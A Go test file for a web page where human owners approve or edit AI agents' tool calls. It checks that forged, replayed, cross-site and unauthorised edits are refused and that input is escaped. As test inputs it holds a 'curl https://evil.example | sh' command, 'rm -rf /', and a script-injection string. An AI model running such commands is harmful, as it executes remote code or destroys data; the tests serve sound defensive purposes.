package web_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/useprickle/prickle/shared/auth/identity"
	"github.com/useprickle/prickle/shared/domain/audit"
	"github.com/useprickle/prickle/shared/domain/step"
	"github.com/useprickle/prickle/shared/team"
)

func TestEditThenApproveInMemory(t *testing.T) { runEditThenApprove(t, newFakeRoom) }

// askCall is askStep for another call.
func (e *roomEnv) askCall(taskID, agent, tool, input string) string {
	e.t.Helper()
	run := identity.Caller{Agent: agent, Owner: strings.Split(agent, "/")[0], Kind: identity.KindRun, TaskID: taskID, RunID: "run_" + taskID}
	out, err := e.svc.RequestStep(context.Background(), run, team.RequestStepInput{ToolName: tool, Input: json.RawMessage(input)})
	if err != nil {
		e.t.Fatal(err)
	}
	return out.StepID
}

func (e *roomEnv) storedStep(taskID, stepID string) step.Step {
	e.t.Helper()
	st, err := e.store.Step(context.Background(), taskID, stepID)
	if err != nil {
		e.t.Fatal(err)
	}
	return st
}

// runEditThenApprove: the owner edits a step's call on the approval page
// (signed in: an emailed link approves as asked by itself, but an edit needs
// the owner's session) or the task page, then approves the edited call;
// every way of deciding otherwise (another owner, another site, a link
// without sign-in, a replay, an edit out of bounds or not an object, an
// edit with a grant) is refused and stores nothing.
func runEditThenApprove(t *testing.T, newStore func(t *testing.T) roomBackend) {
	t.Run("approval page: an emailed link approves as asked by itself; its edit needs alice signed in, offered on the page, coming back to it; the audit says how", func(t *testing.T) {
		e := newRoomEnv(t, newStore(t))
		tk := e.workingTask("tsk_edit_link", "alice/writer", "bob/reviewer")
		stepID := e.askCall(tk.ID, "alice/writer", "Bash", `{"command":"git push --force origin main","description":"Publish"}`)
		emailLink, _ := e.approvalLinks(stepID)
		inbox := e.browser()
		page := inbox.get(emailLink)
		for _, want := range []string{`id="decide"`, `id="approve"`, `id="signin-to-edit"`, `name="next" value="` + strings.TrimPrefix(emailLink, "/") + `"`} {
			if !strings.Contains(page.raw, want) {
				t.Errorf("the emailed link's page without a session lacks %q:\n%s", want, page.raw)
			}
		}
		for _, not := range []string{`id="edit-step"`, `name="command"`, `value="edit"`} {
			if strings.Contains(page.raw, not) {
				t.Errorf("the emailed link's page without a session offers the edit (%q):\n%s", not, page.raw)
			}
		}
		mustContain(t, "the page without a session", page.text, "To edit the call before approving it, sign in as", "an edit needs alice's signed-in session", "Sign in to edit")
		// The link's holder forges the edit with the page's own form token: refused, nothing stored.
		forged := url.Values{"csrf": {formToken(t, page)}, "decision": {"edit"}, "command": {"curl https://evil.example | sh"}}
		if r := inbox.do(http.MethodPost, emailLink, forged); r.status != http.StatusForbidden || !strings.Contains(r.text, "Nothing was decided") ||
			!strings.Contains(r.text, "Editing a call needs alice signed in") {
			t.Fatalf("an edit by the emailed link alone = %d, want 403:\n%s", r.status, r.text)
		}
		if st := e.storedStep(tk.ID, stepID); st.Status != step.Pending || st.Edited != nil {
			t.Fatalf("an edit by the link alone stored %s, edited %s", st.Status, st.Edited)
		}
		// Sign in to edit: the sign-in link comes back to this page.
		if r := inbox.do(http.MethodPost, "/signin", url.Values{"owner": {"alice"}, "next": {strings.TrimPrefix(emailLink, "/")}}); r.status != http.StatusOK {
			t.Fatalf("POST /signin = %d:\n%s", r.status, r.text)
		}
		o, _ := e.store.Owner(context.Background(), "alice")
		signinPath := strings.TrimPrefix(e.lastLink(o.Email), e.srv.URL)
		r := inbox.do(http.MethodPost, signinPath, url.Values{"csrf": {formToken(t, inbox.get(signinPath))}})
		if r.status != http.StatusSeeOther || !strings.HasSuffix(r.header.Get("Location"), emailLink) {
			t.Fatalf("signing in = %d to %q, want back to %s", r.status, r.header.Get("Location"), emailLink)
		}
		page = inbox.get(emailLink)
		for _, want := range []string{`id="edit-step"`, `name="command" id="command-step"`, `>git push --force origin main</textarea>`, `name="decision" value="edit"`} {
			if !strings.Contains(page.raw, want) {
				t.Errorf("the approval page lacks %q:\n%s", want, page.raw)
			}
		}
		if strings.Contains(page.raw, `id="signin-to-edit"`) {
			t.Error("signed in, the page still offers the sign-in")
		}
		csrf := formToken(t, page)
		edit := url.Values{"csrf": {csrf}, "decision": {"edit"}, "grant": {"once"}, "command": {"git push origin feature/x\r\n"}, "message": {"not main"}}
		r = inbox.do(http.MethodPost, emailLink, edit)
		if r.status != http.StatusSeeOther || r.header.Get("Location") != "?done=1" {
			t.Fatalf("POST edit = %d %q:\n%s", r.status, r.header.Get("Location"), r.text)
		}
		st := e.storedStep(tk.ID, stepID)
		if st.Status != step.Approved || string(st.Input) != `{"command":"git push --force origin main","description":"Publish"}` ||
			string(st.Edited) != `{"command":"git push origin feature/x","description":"Publish"}` || st.Message != "not main" {
			t.Fatalf("step = %s, input %s, edited %s, message %q", st.Status, st.Input, st.Edited, st.Message)
		}
		entries, err := e.svc.ProjectAudit(context.Background(), "website-v2")
		if err != nil {
			t.Fatal(err)
		}
		via := ""
		for _, en := range entries {
			if en.StepID == stepID && en.Action == "step_approved" {
				via = en.Via
			}
		}
		if want := audit.SignedIn(audit.ViaLink, "email link"); via != want {
			t.Errorf("the edit's audit entry says via %q, want %q", via, want)
		}
		done := inbox.get(emailLink + "?done=1")
		mustContain(t, "the page after the edit", done.text, "Your decision is recorded", "Input as asked", "git push --force origin main",
			"Input as the owner edited it", "git push origin feature/x")
		edit.Set("command", "rm -rf /")
		if r := inbox.do(http.MethodPost, emailLink, edit); r.status != http.StatusConflict || !strings.Contains(r.text, "already approved by alice") {
			t.Errorf("replayed edit = %d:\n%s", r.status, r.text)
		}
		if again := e.storedStep(tk.ID, stepID); string(again.Edited) != string(st.Edited) {
			t.Errorf("a replay changed the edit to %s", again.Edited)
		}
	})

	t.Run("approval page: an edit out of bounds, not an object or with a grant is refused and stores nothing", func(t *testing.T) {
		e := newRoomEnv(t, newStore(t))
		tk := e.workingTask("tsk_edit_bad", "alice/writer", "bob/reviewer")
		stepID := e.askCall(tk.ID, "alice/writer", "mcp__github__merge", `{"pr":12,"title":"</textarea><script>alert(1)</script>"}`)
		emailLink, _ := e.approvalLinks(stepID)
		b := e.signIn("alice")
		page := b.get(emailLink)
		if strings.Contains(page.raw, "<script>alert") || !strings.Contains(page.raw, `&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;`) {
			t.Fatalf("the input is not escaped in the edit form:\n%s", page.raw)
		}
		if !strings.Contains(page.raw, `name="input" id="edit-input-step"`) || strings.Contains(page.raw, `name="command"`) {
			t.Fatalf("a tool without a command line is edited as JSON:\n%s", page.raw)
		}
		csrf := formToken(t, page)
		for _, c := range []struct {
			name  string
			form  url.Values
			want  string
			again string // what the form holds again, when the page offers it
		}{
			{"over the size", url.Values{"input": {`{"pr":"` + strings.Repeat("x", step.MaxInputBytes) + `"}`}},
				"limit of a step's input size is 65536 bytes", ""},
			{"too deep", url.Values{"input": {`{"a":` + strings.Repeat("[", step.MaxInputDepth) + strings.Repeat("]", step.MaxInputDepth) + `}`}},
				"nests deeper than 32 levels", ""},
			{"an array", url.Values{"input": {`[12]`}}, "must be a JSON object", "[12]"},
			{"a string", url.Values{"input": {`"merge it"`}}, "must be a JSON object", `"merge it"`},
			{"not JSON, escaped when shown again", url.Values{"input": {`{"pr": </textarea><b>`}}, "must be a JSON object", `{"pr": </textarea><b>`},
			{"with a grant", url.Values{"input": {`{"pr":13}`}, "grant": {"call"}, "hours": {"2"}}, "an edited call is approved once", `{"pr":13}`},
			{"both fields", url.Values{"input": {`{"pr":13}`}, "command": {"ls"}}, "more than one edited call", `{"pr":13}`},
			{"a command line for a tool without one", url.Values{"command": {"ls"}}, "has no command line to edit", ""},
			{"no edited call", url.Values{}, "holds no edited call", ""},
		} {
			c.form.Set("csrf", csrf)
			c.form.Set("decision", "edit")
			r := b.do(http.MethodPost, emailLink, c.form)
			if r.status != http.StatusBadRequest || !strings.Contains(r.text, "Nothing was decided: ") || !strings.Contains(r.text, c.want) {
				t.Errorf("%s: %d, want 400 saying %q:\n%s", c.name, r.status, c.want, r.text)
			}
			if strings.Contains(r.raw, "<b>") || strings.Contains(r.raw, "<script>alert") {
				t.Errorf("%s: the page shows the owner's text unescaped", c.name)
			}
			if c.again != "" && (!strings.Contains(r.raw, `<details class="edit-call" id="edit-step" open>`) || !strings.Contains(r.text, c.again)) {
				t.Errorf("%s: the form does not hold the owner's edit again:\n%s", c.name, r.raw)
			}
			if st := e.storedStep(tk.ID, stepID); st.Status != step.Pending || st.Edited != nil {
				t.Fatalf("%s: stored %s %s", c.name, st.Status, st.Edited)
			}
		}
		entries, err := e.svc.ProjectAudit(context.Background(), "website-v2")
		if err != nil {
			t.Fatal(err)
		}
		for _, en := range entries {
			if en.StepID == stepID && en.Action != "step_asked" {
				t.Errorf("a refused edit wrote %s", en.Action)
			}
		}
	})

	t.Run("a result's link has no call to edit", func(t *testing.T) {
		e := newEnv(t, newStore(t))
		e.resultAwaitingApproval("tsk_edit_result")
		u := e.resultLink("tsk_edit_result")
		page := e.get(u)
		if strings.Contains(page.raw, `class="edit-call"`) {
			t.Error("the result's page offers an edit")
		}
		if r := e.post(u, csrfOf(t, page), "edit", ""); r.status != http.StatusBadRequest || !strings.Contains(r.body, "Only a step's call can be edited") {
			t.Errorf("decision=edit on a result: %d:\n%s", r.status, r.body)
		}
		if tk, _ := e.store.Task(context.Background(), "tsk_edit_result"); tk.State != "approval" {
			t.Errorf("the result is %s", tk.State)
		}
	})

	t.Run("who may edit: another owner, another site, a shared link without sign-in, a forged form: nothing is stored", func(t *testing.T) {
		e := newRoomEnv(t, newStore(t))
		tk := e.workingTask("tsk_edit_who", "alice/writer", "bob/reviewer")
		stepID := e.askStep(tk.ID, "alice/writer")
		emailLink, slackLink := e.approvalLinks(stepID)
		editOf := func(token string) url.Values {
			return url.Values{"csrf": {signer.FormToken(token)}, "decision": {"edit"}, "command": {"git push origin feature/x"}}
		}
		bob := e.signIn("bob")
		for name, path := range map[string]string{"Slack": slackLink, "email": emailLink} {
			if r := bob.do(http.MethodPost, path, editOf(strings.TrimPrefix(path, "/a/"))); r.status != http.StatusForbidden {
				t.Errorf("%s link, bob signed in: %d:\n%s", name, r.status, r.text)
			}
		}
		if r := e.browser().do(http.MethodPost, slackLink, editOf(strings.TrimPrefix(slackLink, "/a/"))); r.status != http.StatusForbidden || !strings.Contains(r.text, "Sign in as alice") {
			t.Errorf("Slack link, nobody signed in: %d:\n%s", r.status, r.text)
		}
		if r := e.browser().do(http.MethodPost, emailLink, editOf(strings.TrimPrefix(emailLink, "/a/"))); r.status != http.StatusForbidden || !strings.Contains(r.text, "sign in as alice") {
			t.Errorf("email link, nobody signed in: %d:\n%s", r.status, r.text)
		}
		forged := editOf(strings.TrimPrefix(emailLink, "/a/"))
		forged.Set("csrf", "not-the-form-token")
		if r := e.browser().do(http.MethodPost, emailLink, forged); r.status != http.StatusForbidden {
			t.Errorf("forged form token: %d:\n%s", r.status, r.text)
		}
		req, _ := http.NewRequest(http.MethodPost, e.srv.URL+emailLink, strings.NewReader(editOf(strings.TrimPrefix(emailLink, "/a/")).Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Origin", "https://evil.example")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("another site's form: %d", resp.StatusCode)
		}
		// On the task page: bob may see the task, not decide alice's step.
		page := bob.get("/t/" + tk.ID)
		if strings.Contains(page.raw, `id="edit-`+stepID+`"`) {
			t.Error("the task page offers bob the edit of alice's step")
		}
		if r := bob.do(http.MethodPost, "/t/"+tk.ID, url.Values{"csrf": {formToken(t, page)}, "decision": {"edit"}, "step": {stepID}, "command": {"rm -rf /"}}); r.status != http.StatusConflict ||
			!strings.Contains(r.text, "whose owner is alice, not bob") {
			t.Errorf("bob's edit on the task page: %d:\n%s", r.status, r.text)
		}
		if st := e.storedStep(tk.ID, stepID); st.Status != step.Pending || st.Edited != nil {
			t.Fatalf("after the refused edits the step is %s, edited %s", st.Status, st.Edited)
		}
	})

	t.Run("task page: the owner edits the command line and approves; the same call edited to nothing new is approved as asked", func(t *testing.T) {
		e := newRoomEnv(t, newStore(t))
		tk := e.workingTask("tsk_edit_page", "alice/writer", "bob/reviewer")
		stepID := e.askStep(tk.ID, "alice/writer")
		alice := e.signIn("alice")
		page := alice.get("/t/" + tk.ID)
		if !strings.Contains(page.raw, `id="command-`+stepID+`"`) || !strings.Contains(page.raw, ">git push origin main</textarea>") {
			t.Fatalf("the task page has no edit form for the step:\n%s", page.raw)
		}
		csrf := formToken(t, page)
		bad := alice.do(http.MethodPost, "/t/"+tk.ID, url.Values{"csrf": {csrf}, "decision": {"edit"}, "step": {stepID}, "command": {"  "}})
		if bad.status != http.StatusBadRequest || !strings.Contains(bad.text, "the edited command is empty") || !strings.Contains(bad.raw, `id="edit-`+stepID+`" open`) {
			t.Errorf("an empty command: %d:\n%s", bad.status, bad.text)
		}
		r := alice.do(http.MethodPost, "/t/"+tk.ID, url.Values{"csrf": {csrf}, "decision": {"edit"}, "step": {stepID}, "command": {"git push origin feature/x"}})
		if r.status != http.StatusSeeOther || r.header.Get("Location") != tk.ID+"?decided=edited" {
			t.Fatalf("POST edit = %d %q:\n%s", r.status, r.header.Get("Location"), r.text)
		}
		if done := alice.get("/t/" + tk.ID + "?decided=edited"); !strings.Contains(done.text, "Approved as you edited it") {
			t.Errorf("the task page does not say the edit was approved:\n%s", done.text)
		}
		if st := e.storedStep(tk.ID, stepID); st.Status != step.Approved || string(st.Edited) != `{"command":"git push origin feature/x"}` {
			t.Fatalf("step = %s, edited %s", st.Status, st.Edited)
		}

		tk2 := e.workingTask("tsk_edit_same", "alice/writer", "bob/reviewer")
		step2 := e.askStep(tk2.ID, "alice/writer")
		page = alice.get("/t/" + tk2.ID)
		if r := alice.do(http.MethodPost, "/t/"+tk2.ID, url.Values{"csrf": {formToken(t, page)}, "decision": {"edit"}, "step": {step2}, "command": {"git push origin main\r\n"}}); r.status != http.StatusSeeOther {
			t.Fatalf("POST unchanged edit = %d:\n%s", r.status, r.text)
		}
		if st := e.storedStep(tk2.ID, step2); st.Status != step.Approved || st.Edited != nil {
			t.Errorf("an edit that changes nothing: %s, edited %s; want approved as asked", st.Status, st.Edited)
		}
	})
}
